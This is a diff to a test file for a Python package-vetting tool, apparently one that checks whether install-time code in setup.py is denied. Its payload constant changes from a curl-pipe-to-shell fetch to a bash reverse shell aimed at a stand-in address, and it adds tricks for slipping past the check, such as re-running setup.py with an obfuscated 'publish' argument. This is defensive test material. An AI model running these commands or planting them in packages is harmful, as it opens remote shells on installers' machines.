@@ -12,7 +12,9 @@ from airlock.domain.requests import Outcome
 from airlock.imports.packages.vet import vet
 from scripts.make_test_packages import sdist
 
-PAYLOAD = "os.system('curl -s http://203.0.113.7/x.sh | sh')"
+# Denied at install time, allowed when called (a person's own shell): the tests below tell
+# the two moments apart.
+PAYLOAD = "os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')"
 
 SERVE = (
     "def serve(directory):\n"
@@ -108,13 +110,13 @@ def test_a_payload_under_a_test_an_install_can_pass_stays_denied(gate: str) -> N
 
 def test_the_else_branch_of_a_maintainers_command_runs_on_install() -> None:
     setup = _gated("command == 'publish'").replace(
-        "setup(name", f"else:\n    {PAYLOAD.replace('x.sh', 'y.sh')}\nsetup(name"
+        "setup(name", f"else:\n    {PAYLOAD.replace('4444', '4445')}\nsetup(name"
     )
     assert _vet(setup) is Outcome.DENY
 
 
 def test_a_payload_after_the_maintainers_branch_runs_on_install() -> None:
-    setup = _gated("command == 'publish'", after=f"{PAYLOAD.replace('x.sh', 'z.sh')}\n")
+    setup = _gated("command == 'publish'", after=f"{PAYLOAD.replace('4444', '4446')}\n")
     assert _vet(setup) is Outcome.DENY
 
 
@@ -134,10 +136,34 @@ def test_a_payload_after_the_maintainers_branch_runs_on_install() -> None:
         "from fastcfg import helpers\n",
         # The name bound again, or by string.
         "globals()['com' + 'mand'] = 'publish'\n",
+        # setup.py run again with the word: a child process or in-process.
+        "import subprocess\nsubprocess.call([sys.executable, __file__, 'pub' + 'lish'])\n",
+        "os.system(sys.executable + ' setup.py pub' + 'lish')\n",
+        "os.execv(sys.executable, [sys.executable, __file__, 'pub' + 'lish'])\n",
+        "from setuptools.sandbox import run_setup\nrun_setup(__file__, ['pub' + 'lish'])\n",
+        "from distutils.core import run_setup\nrun_setup(__file__, ['publish'])\n",
+        "from distutils.spawn import spawn\nspawn([sys.executable, __file__, 'pub' + 'lish'])\n",
+        "WORDS = ['publish']\n",
     ],
 )
 def test_argv_or_the_name_changed_before_the_test_stays_denied(prelude: str) -> None:
     assert _vet(_gated("command == 'publish'", prelude=prelude)) is Outcome.DENY
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        # After the test, the same: setup.py run again, by itself or by a module it imports.
+        "import subprocess\nsubprocess.call([sys.executable, __file__, 'pub' + 'lish'])\n",
+        "import fastcfg.release\n",
+        (
+            "class Build:\n    def run(self):\n"
+            "        self.spawn([sys.executable, __file__, 'pub' + 'lish'])\n"
+        ),
+    ],
+)
+def test_setup_run_again_with_the_word_stays_denied(after: str) -> None:
+    assert _vet(_gated("command == 'publish'", after=after)) is Outcome.DENY
 
 
 def test_a_name_bound_twice_stays_denied() -> None:
